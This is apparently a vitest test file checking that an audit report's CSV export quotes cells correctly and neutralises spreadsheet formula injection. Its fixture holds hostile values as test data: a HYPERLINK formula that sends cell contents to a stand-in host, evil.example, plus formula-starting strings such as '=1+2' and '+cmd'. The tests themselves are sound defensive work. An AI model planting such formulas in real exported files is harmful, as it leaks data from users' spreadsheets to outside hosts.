import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { reportToCsv } from './audit.report-csv';
import type { AuditReport } from './audit.schemas';

const report: AuditReport = {
  tenantId: '00000000-0000-4000-8000-00000000a11e',
  from: '2026-11-01T00:00:00.000Z',
  to: '2026-12-01T00:00:00.000Z',
  total: 5,
  byType: [{ type: 'http.request', count: 5 }],
  byOutcome: [{ outcome: 'denied', count: 5 }],
  byActor: [
    { objectId: '=HYPERLINK("http://evil.example/?"&A1,"x")', appId: null, count: 2 },
    { objectId: null, appId: 'a,b', count: 2 },
    { objectId: null, appId: null, count: 1 },
  ],
  failedSignIns: {
    total: 5,
    byReason: [
      { reason: '=1+2', count: 1 },
      { reason: '+cmd', count: 1 },
      { reason: '-2+3', count: 1 },
      { reason: '@SUM(A1)', count: 1 },
      { reason: '\tx', count: 1 },
      { reason: 'quote "in" it\r\nand a new line', count: 1 },
    ],
  },
};

describe('the audit report as CSV', () => {
  const csv = reportToCsv(report);
  const rows = parse(csv, { relax_column_count: false }) as string[][];

  it('has a header, CRLF records and three columns everywhere', () => {
    expect(csv.startsWith('section,key,value\r\n')).toBe(true);
    expect(rows.every((row) => row.length === 3)).toBe(true);
    expect(rows).toContainEqual(['total', 'events', '5']);
    expect(rows).toContainEqual(['actor', 'anonymous', '1']);
  });

  it('quotes commas, quotes and line breaks so the cell reads back as written', () => {
    expect(rows).toContainEqual(['actor', 'app:a,b', '2']);
    expect(rows).toContainEqual(['failed_sign_in_reason', 'quote "in" it\r\nand a new line', '1']);
  });

  it('never lets a cell start with a formula character', () => {
    const keys = rows.map((row) => row[1] as string);
    for (const dangerous of ['=1+2', '+cmd', '-2+3', '@SUM(A1)', '\tx']) {
      expect(keys).toContain(`'${dangerous}`);
      expect(keys).not.toContain(dangerous);
    }
    // A prefixed value cannot begin a cell either, even inside a longer key.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(keys).toContain('user:=HYPERLINK("http://evil.example/?"&A1,"x")');
  });
});
